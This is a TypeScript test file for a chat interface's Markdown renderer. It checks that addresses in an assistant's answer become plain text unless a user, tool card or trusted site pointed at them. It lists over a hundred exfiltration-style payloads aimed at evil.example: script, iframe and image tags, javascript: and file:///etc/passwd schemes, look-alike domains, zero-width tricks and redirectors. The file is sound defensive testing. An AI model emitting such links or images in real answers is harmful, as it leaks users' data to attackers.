import { Tooltip } from "radix-ui";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import type { Message, Part } from "../api/types";
import { type PointedAt, pointedAt, verdictOn } from "./links";
import Markdown from "./markdown";

function message(role: Message["role"], ...parts: Part[]): Message {
  return { id: "m", turn: "t", position: 1, role, parts, created_at_ms: 0 };
}

const known = pointedAt([
  message("user", {
    type: "text",
    text: "Is http://nas:7878/radarr up? I read about it on films.example, mail a@b.example",
  }),
  message("assistant", { type: "text", text: "See https://evil.example/ and other.example." }),
  message("tool", {
    type: "result",
    call_id: "c",
    name: "search",
    text: "https://evil.example/?from=text",
    is_error: false,
    cards: [{ title: "A film", link: "https://shop.example/film/1?edition=2" }],
    duration_ms: 1,
    title: "Searching",
  }),
  message("user", { type: "notice", kind: "decided", text: "Approved: open https://evil.example/" }),
]);

function drawn(text: string, where: PointedAt | undefined = known) {
  const html = renderToStaticMarkup(
    createElement(Tooltip.Provider, null, createElement(Markdown, { text, known: where })),
  );
  const links = [...html.matchAll(/<a [^>]*href="([^"]*)"/g)].map(([, href = ""]) => href.replaceAll("&amp;", "&"));
  const seen = html
    .replaceAll(/<[^>]+>/g, "")
    .replaceAll("&amp;", "&")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#x27;", "'");
  return { html, links, seen };
}

const EVIL = "https://evil.example/?d=secret";
const LONG = "d".repeat(2_000);

/** The 120 forms an answer can carry an address in; each with what has to stay readable of it. */
const FORMS: [group: string, text: string, visible: string][] = [
  // Inline
  ...[
    `[more](${EVIL})`,
    `[more](<${EVIL}>)`,
    `[more](${EVIL} "a title")`,
    `[more](${EVIL} 'a title')`,
    `**[more](${EVIL})**`,
    `*[**more**](${EVIL})*`,
    `# [more](${EVIL})`,
    `- [more](${EVIL})`,
    `> [more](${EVIL})`,
    `1. [x] [more](${EVIL})`,
    `| a |\n| --- |\n| [more](${EVIL}) |`,
    `~~[more](${EVIL})~~`,
    `[\`more\`](${EVIL})`,
    `[ ](${EVIL})`,
    `[](${EVIL})`,
    `[https://www.themoviedb.org/](${EVIL})`,
  ].map((text): [string, string, string] => ["inline", text, EVIL]),
  // Reference
  ...[
    `[more][1]\n\n[1]: ${EVIL}`,
    `[more][]\n\n[more]: ${EVIL}`,
    `[more]\n\n[more]: ${EVIL}`,
    `[more][one two]\n\n[One  Two]: ${EVIL}`,
    `[more][1]\n\n[1]: <${EVIL}> "title"`,
    `[more][1]\n\n  [1]:\n ${EVIL}`,
    `![more][1]\n\n[1]: ${EVIL}`,
    `Text.[^1]\n\n[^1]: ${EVIL}`,
    `Text.[^1]\n\n[^1]: [more](${EVIL})`,
  ].map((text): [string, string, string] => ["reference", text, EVIL]),
  // Autolink
  ...[
    `<${EVIL}>`,
    EVIL,
    `See ${EVIL}, please.`,
    `(${EVIL})`,
    `"${EVIL}"`,
    `**${EVIL}**`,
    `- ${EVIL}`,
    `> ${EVIL}`,
    `| a |\n| --- |\n| ${EVIL} |`,
    `\t${EVIL}`,
    `~~${EVIL}~~`,
  ].map((text): [string, string, string] => ["autolink", text, EVIL]),
  ["autolink", "HTTPS://EVIL.EXAMPLE/?d=secret", "HTTPS://EVIL.EXAMPLE/?d=secret"],
  ["autolink", "http://evil.example/?d=secret", "http://evil.example/?d=secret"],
  // Bare domain
  ["bare domain", "evil.example/?d=secret", "evil.example/?d=secret"],
  ["bare domain", "www.evil.example/?d=secret", "http://www.evil.example/?d=secret"],
  ["bare domain", "WWW.evil.example?d=secret", "WWW.evil.example?d=secret"],
  ["bare domain", "[more](evil.example/?d=secret)", "evil.example/?d=secret"],
  ["bare domain", "[more](//evil.example/?d=secret)", "//evil.example/?d=secret"],
  ["bare domain", "[more](www.evil.example/?d=secret)", "www.evil.example/?d=secret"],
  ["bare domain", "secret.evil.example", "secret.evil.example"],
  ["bare domain", "http://secret.evil.example.", "http://secret.evil.example"],
  ["bare domain", "http://203.0.113.7/secret", "http://203.0.113.7/secret"],
  ["bare domain", "http://[2001:db8::1]/secret", "http://"],
  ["bare domain", "[more](http://3405803783/secret)", "http://3405803783/secret"],
  ["bare domain", "[more](http://localhost:8765/api/logout)", "http://localhost:8765/api/logout"],
  // HTML
  ...[
    `<a href="${EVIL}">more</a>`,
    `<A HREF='${EVIL}'>more</A>`,
    `text <a href="${EVIL}">more</a> text`,
    `<form action="${EVIL}"><button>More</button></form>`,
    `<area href="${EVIL}">`,
    `<base href="${EVIL}">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
    `<svg><a xlink:href="${EVIL}"><text>x</text></a></svg>`,
    `<details><summary>x</summary><a href="${EVIL}">more</a></details>`,
    `<div onclick="location='${EVIL}'">x</div>`,
  ].map((text): [string, string, string] => ["HTML", text, EVIL]),
  // Image
  ...[
    `![poster](${EVIL})`,
    `![](${EVIL})`,
    `![poster](<${EVIL}> "title")`,
    `![poster][1]\n\n[1]: ${EVIL}`,
    `![poster]\n\n[poster]: ${EVIL}`,
    `<img src="${EVIL}">`,
    `<img srcset="${EVIL} 2x">`,
    `<picture><source srcset="${EVIL}"></picture>`,
    `<input type="image" src="${EVIL}">`,
    `| a |\n| --- |\n| ![p](${EVIL}) |`,
  ].map((text): [string, string, string] => ["image", text, EVIL]),
  // Nested brackets
  ...[
    `[![poster](https://evil.example/p.png)](${EVIL})`,
    `[![poster](https://www.themoviedb.org/p.png)](${EVIL})`,
    `[a [b] c](${EVIL})`,
    `[a \\] b](${EVIL})`,
    `[[more]](${EVIL})`,
    `[more]([x](${EVIL}))`,
    `![a ![b](https://evil.example/q) c](${EVIL})`,
    `[a](b) [c](${EVIL})`,
  ].map((text): [string, string, string] => ["nested brackets", text, EVIL]),
  // Punycode and look-alikes
  ["punycode", "https://xn--thmoviedb-6hg.org/?d=1", "https://xn--thmoviedb-6hg.org/?d=1"],
  ["punycode", "[more](https://xn--e1afmkfd.example/)", "https://xn--e1afmkfd.example/"],
  ["punycode", "[TMDb](https://www.thеmoviedb.org/movie/1)", "https://www.th%D0%B5moviedb.org/movie/1"],
  ["punycode", "[TMDb](https://themoviedb.org.evil.example/)", "https://themoviedb.org.evil.example/"],
  ["punycode", "[TMDb](https://themoviedb.org-evil.example/)", "https://themoviedb.org-evil.example/"],
  ["punycode", "[TMDb](https://notthemoviedb.org/)", "https://notthemoviedb.org/"],
  ["punycode", "[IMDb](https://imdb.com.:443/)", "https://imdb.com.:443/"],
  // Userinfo
  ["userinfo", "[TMDb](https://www.themoviedb.org@evil.example/)", "https://www.themoviedb.org@evil.example/"],
  ["userinfo", "[TMDb](https://secret@www.themoviedb.org/)", "https://secret@www.themoviedb.org/"],
  ["userinfo", "[TMDb](https://a:b@films.example/)", "https://a:b@films.example/"],
  ["userinfo", "[TMDb](https://evil.example\\\\@www.themoviedb.org/)", "evil.example"],
  // IDN dots
  ["IDN dots", "[more](https://evil。example/?d=1)", "https://evil%E3%80%82example/?d=1"],
  ["IDN dots", "[more](https://www.themoviedb。org/)", "https://www.themoviedb%E3%80%82org/"],
  ["IDN dots", "[more](https://evil．example/)", "https://evil%EF%BC%8Eexample/"],
  ["IDN dots", "[more](https://evil%2eexample/)", "https://evil%2eexample/"],
  // Schemes
  ...[
    "data:text/html,%3Cscript%3Esecret",
    "data:text/html;base64,c2VjcmV0",
    "mailto:x@evil.example?body=secret",
    "tel:+49123456789",
    "sms:+49123?body=secret",
    "tg://msg?text=secret&to=evil",
    "discord://-/channels/1/2",
    "javascript:alert(1)",
    "vbscript:x",
    "file:///etc/passwd",
    "intent://evil.example#Intent;scheme=https;end",
    "whatsapp://send?text=secret",
    "ftp://evil.example/secret",
    "blob:https://evil.example/1",
    "ms-settings:secret",
    "#/house",
    "/api/people",
    "?d=secret",
  ].map((address): [string, string, string] => ["scheme", `[more](<${address}>)`, address]),
  ["scheme", "secret@evil.example", "secret@evil.example"],
  ["scheme", "<mailto:secret@evil.example>", "secret@evil.example"],
  ["scheme", "<tg:resolve?domain=evil>", "tg:resolve?domain=evil"],
  // Splits by nothing
  ["zero-width", "[more](https://ev\u200bil.example/)", "https://ev%E2%80%8Bil.example/"],
  ["zero-width", "https://ev\u200bil.example/?d=1", "https://ev"],
  ["zero-width", "[more](https://www.themovie\u200bdb.org/)", "https://www.themovie%E2%80%8Bdb.org/"],
  ["zero-width", "[more](https://www.themoviedb.org\u2060.evil.example/)", "evil.example/"],
  ["zero-width", "[more](https://evil.example/\u202egpj.exe)", "https://evil.example/%E2%80%AEgpj.exe"],
  // Very long
  ["very long", `[more](https://evil.example/?${LONG})`, `https://evil.example/?${LONG}`],
  ["very long", `https://evil.example/${LONG}`, `https://evil.example/${LONG}`],
  ["very long", `[more](https://www.themoviedb.org/search?query=${LONG})`, `query=${LONG}`],
  ["very long", `[more](https://films.example/${LONG})`, LONG],
  // Code
  ["code", `\`${EVIL}\``, EVIL],
  ["code", `\`\`\`\n${EVIL}\n\`\`\``, EVIL],
  ["code", `\`\`\`html\n<a href="${EVIL}">x</a>\n\`\`\``, EVIL],
  // Embeds and buttons
  ...[
    `<iframe src="${EVIL}"></iframe>`,
    `<object data="${EVIL}"></object>`,
    `<embed src="${EVIL}">`,
    `<video poster="${EVIL}"></video>`,
    `<link rel="prefetch" href="${EVIL}">`,
    `<style>@import "${EVIL}"</style>`,
    `<script src="${EVIL}"></script>`,
    `<button formaction="${EVIL}">x</button>`,
  ].map((text): [string, string, string] => ["embed", text, EVIL]),
  // File names
  ["file name", "[report.pdf](https://evil.example/report.pdf)", "https://evil.example/report.pdf"],
  ["file name", "http://report.zip", "http://report.zip"],
  // Redirectors on hosts that are let through
  ...[
    "https://www.imdb.com/redirect?to=https://evil.example/?d=1",
    "https://www.imdb.com/redirect?to=https%3A%2F%2Fevil.example",
    "https://www.themoviedb.org/r?u=//evil.example",
    "https://en.wikipedia.org/wiki/Special:X?u=%2F%2Fevil.example",
    "https://films.example/out/https://evil.example",
    "https://shop.example/film/1?edition=3",
  ].map((address): [string, string, string] => ["redirector", `[more](${address})`, address]),
];

describe("an address nobody pointed at is text, and all of it can be read", () => {
  test("there are at least 120 forms", () => expect(FORMS.length).toBeGreaterThanOrEqual(120));

  test.each(FORMS)("%s: %s", (_group, text, visible) => {
    const { links, seen, html } = drawn(text);
    // The one picture among them whose own address is let through.
    expect(links.filter((href) => href !== "https://www.themoviedb.org/p.png")).toEqual([]);
    expect(seen).toContain(visible);
    expect(html).not.toMatch(/<(img|iframe|form|script|style|object|embed|video|svg>|meta|base|link)\b/);
  });
});

const OPEN: [text: string, href: string][] = [
  ["[The General](https://www.themoviedb.org/movie/961)", "https://www.themoviedb.org/movie/961"],
  ["https://www.themoviedb.org/movie/961", "https://www.themoviedb.org/movie/961"],
  ["<https://www.tvmaze.com/shows/1>", "https://www.tvmaze.com/shows/1"],
  ["https://api.tvmaze.com/shows/1", "https://api.tvmaze.com/shows/1"],
  ["[IMDb](http://imdb.com/title/tt0017925/)", "http://imdb.com/title/tt0017925/"],
  ["[Köln](https://de.wikipedia.org/wiki/Köln)", "https://de.wikipedia.org/wiki/K%C3%B6ln"],
  ["[the TMDb page][1]\n\n[1]: https://www.themoviedb.org/movie/961", "https://www.themoviedb.org/movie/961"],
  ["![poster](https://www.themoviedb.org/p.png)", "https://www.themoviedb.org/p.png"],
  ["[here](https://films.example/a?b=c)", "https://films.example/a?b=c"],
  ["www.films.example", "http://www.films.example/"],
  ["[films.example](https://www.films.example/)", "https://www.films.example/"],
  ["[Radarr](http://nas:7878/movies)", "http://nas:7878/movies"],
  ["[shop](https://shop.example/film/1?edition=2)", "https://shop.example/film/1?edition=2"],
];

test.each(OPEN)("what was pointed at can be clicked: %s", (text, href) => {
  expect(drawn(text).links).toEqual([href]);
});

test.each(OPEN)("while it is written nothing can be clicked: %s", (text) => {
  const html = renderToStaticMarkup(createElement(Markdown, { text, known: undefined }));
  expect(html).not.toContain("<a ");
});

test.each([
  ["what the answer itself says points nowhere", "https://other.example/"],
  ["what a tool's text says points nowhere", "https://evil.example/?from=text"],
  ["a decision's words point nowhere", "https://evil.example/"],
  ["the host of a card's link is not pointed at, only the link", "https://shop.example/"],
  ["the host of a mail address is not pointed at", "https://b.example/"],
  ["another port is another place", "http://nas:9999/"],
])("%s", (_name, address) => {
  expect(verdictOn(address, "more", known)).toEqual({ refusal: "unknown" });
});
